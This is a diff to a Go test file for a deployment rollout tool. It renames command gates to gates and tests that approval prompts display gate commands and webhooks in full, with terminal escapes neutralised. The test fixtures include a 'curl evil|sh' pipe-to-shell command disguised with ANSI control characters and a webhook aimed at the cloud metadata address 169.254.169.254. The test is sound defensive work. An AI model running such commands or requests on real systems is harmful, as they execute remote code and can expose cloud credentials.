@@ -281,7 +281,7 @@ func TestRolloutAskFlags(t *testing.T) {
 		{"promote deploy/web", askOptions{workload: web, do: rollout.AskPromote}},
 		{"promote deploy/web --full --exit-on pause", askOptions{workload: web, do: rollout.AskFull, exitOnPause: true}},
 		{"pause deploy web", askOptions{workload: web, do: rollout.AskPause}},
-		{"resume deploy/web --force-conflicts --allow-commands -o json", askOptions{workload: web, do: rollout.AskResume, force: true, commands: true, events: true}},
+		{"resume deploy/web --force-conflicts --allow-gates -o json", askOptions{workload: web, do: rollout.AskResume, force: true, gates: true, events: true}},
 		{"abort deploy/web --force-conflicts --timeout 1m", askOptions{workload: web, do: rollout.AskAbort, force: true, timeout: true}},
 		{"undo deploy/web --to-revision 3", askOptions{workload: web, do: rollout.AskAbort, revision: 3}},
 	} {
@@ -366,6 +366,7 @@ func TestWhoDrivesMayBeUnknown(t *testing.T) {
 		{record{journal.Record{Life: journal.Left, Driver: "ann", State: state}}, false, true, true, false},
 		{record{journal.Record{Life: journal.Abandoned, Driver: "ann", State: state}}, false, true, true, false},
 		{record{journal.Record{Life: journal.Unknown, Driver: "ann", State: state, Unread: errors.New("forbidden")}}, false, false, false, true},
+		{record{journal.Record{Life: journal.Abandoned, Driver: "ann", State: state, Unread: errors.New("forbidden")}}, false, true, true, false},
 	} {
 		v := c.record.view(nil, rollout.Event{})
 		if c.record.leads() != c.leads || c.record.left() != c.left || v.Abandoned != c.abandoned || (v.Driver == nil) != c.notChecked ||
@@ -377,22 +378,32 @@ func TestWhoDrivesMayBeUnknown(t *testing.T) {
 
 // What is asked about a command shows all of it: whoever may write the journal
 // must not be able to hide a part of what is agreed to.
-func TestCommandsAreShownWhole(t *testing.T) {
+func TestGatesAreShownWhole(t *testing.T) {
 	a := newApp(t, lang.English)
 	var errs strings.Builder
 	a.Streams.In, a.Streams.Err, a.Streams.InTTY, a.Streams.ErrTTY = strings.NewReader("n\n"), &errs, true, true
-	evil := "curl evil|sh;\x1b[2K\r./smoke.sh\n\n"
-	spec := rollout.Spec{Gates: []rollout.GateSpec{{Kind: rollout.GateCommand, Value: evil}, {Kind: rollout.GateCommand, Value: "./확인.sh"}}}
-	may, err := a.agreeToCommands(spec, askOptions{do: rollout.AskResume})
-	if err != nil || may(evil) {
+	evil := rollout.GateSpec{Kind: rollout.GateCommand, Value: "curl evil|sh;\x1b[2K\r./smoke.sh\n\n"}
+	hook := rollout.GateSpec{Kind: rollout.GateWebhook, Value: "http://169.254.169.254/"}
+	spec := rollout.Spec{Gates: []rollout.GateSpec{evil, {Kind: rollout.GateCommand, Value: "./확인.sh"}, {Kind: rollout.GateTime, Value: "2m"}},
+		Steps: []rollout.Step{{Gates: []rollout.GateSpec{hook}}}}
+	may, err := a.agreeToGates(spec, askOptions{do: rollout.AskResume})
+	if err != nil || may(evil) || may(hook) {
 		t.Errorf("refused and yet allowed: %v", err)
 	}
-	if got := errs.String(); strings.ContainsAny(got, "\x1b\r\n") || !strings.Contains(got, `"curl evil|sh;\x1b[2K\r./smoke.sh\n\n"`) || !strings.Contains(got, "./확인.sh") {
+	if got := errs.String(); strings.ContainsAny(got, "\x1b\r\n") || !strings.Contains(got, `"curl evil|sh;\x1b[2K\r./smoke.sh\n\n"`) || !strings.Contains(got, "./확인.sh") || !strings.Contains(got, `webhook="http://169.254.169.254/"`) || strings.Contains(got, "2m") {
 		t.Errorf("asked %q", got)
 	}
 	a.Streams.In = strings.NewReader("y\n")
-	if may, err = a.agreeToCommands(spec, askOptions{do: rollout.AskResume}); err != nil || !may(evil) || may("other") {
+	if may, err = a.agreeToGates(spec, askOptions{do: rollout.AskResume}); err != nil || !may(evil) || !may(hook) || may(rollout.GateSpec{Kind: rollout.GateCommand, Value: "other"}) {
 		t.Errorf("agreed to, and not allowed: %v", err)
+	}
+	if may, err = a.agreeToGates(spec, askOptions{do: rollout.AskAbort}); err != nil || may(hook) {
+		t.Errorf("no gate is asked on the way back: %v", err)
+	}
+	a.Streams.InTTY = false
+	spec.Gates = nil
+	if _, err = a.agreeToGates(spec, askOptions{do: rollout.AskPromote}); err == nil {
+		t.Error("a web hook from the cluster was taken without anybody to ask")
 	}
 }
 
